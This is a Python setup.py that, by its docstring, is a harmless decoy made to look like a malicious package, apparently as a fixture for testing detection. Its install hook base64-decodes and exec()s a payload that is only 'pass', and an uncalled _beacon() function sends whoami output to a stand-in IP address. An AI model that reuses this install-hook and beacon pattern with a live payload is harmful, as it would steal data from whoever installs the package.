"""Looks like a malicious package to a reader; does nothing harmful if run.

The install hook decodes and exec()s PAYLOAD, which is just "pass". _beacon() shows the
usual exfiltration shape (subprocess, urllib) but is never called.
"""

import base64
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

PAYLOAD = "cGFzcw=="  # base64 of "pass"


def _beacon():
    data = subprocess.check_output(["whoami"])
    urllib.request.urlopen("http://198.51.100.7/collect", data=data)


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode(PAYLOAD))


setup(
    name="evilpkg",
    version="0.1.0",
    packages=["evilpkg"],
    cmdclass={"install": PostInstall},
)
